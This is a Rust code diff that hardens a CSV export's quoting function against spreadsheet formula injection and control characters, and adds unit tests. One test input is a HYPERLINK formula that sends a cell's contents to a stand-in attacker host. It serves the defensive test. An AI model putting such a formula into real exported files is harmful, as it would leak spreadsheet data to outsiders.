@@ -66,11 +66,20 @@ pub fn summary_csv(results: &ResultsFile) -> String {
     out
 }
 
+/// A CSV field: control characters shown as escapes and line breaks as spaces (text from
+/// files, such as an error message); text a spreadsheet would run as a formula (starting
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return, and not a number) prefixed with `'`;
+/// quoted where it holds a comma or a quote.
 fn quote(field: &str) -> String {
+    let field = crate::export::sanitize::for_terminal_line(field);
+    let mut field = field.into_owned();
+    if field.starts_with(['=', '+', '-', '@', '\t', '\r']) && field.parse::<f64>().is_err() {
+        field.insert(0, '\'');
+    }
     if field.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", field.replace('"', "\"\""))
     } else {
-        field.to_string()
+        field
     }
 }
 
@@ -129,5 +138,20 @@ mod tests {
             lines[2]
         );
         assert_eq!(lines[2].split(',').count(), HEADER.split(',').count() + 1);
+    }
+
+    #[test]
+    fn fields_a_spreadsheet_would_run_are_defused() {
+        assert_eq!(
+            quote("=HYPERLINK(\"http://evil/\"&A1,\"x\")"),
+            "\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\""
+        );
+        assert_eq!(quote("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(quote("+1+1"), "'+1+1");
+        // Numbers stay numbers.
+        assert_eq!(quote("-0.005675"), "-0.005675");
+        assert_eq!(quote("+3"), "+3");
+        // Control characters and line breaks from files.
+        assert_eq!(quote("bad\u{1b}[31m\nline"), "bad\\u{1b}[31m line");
     }
 }
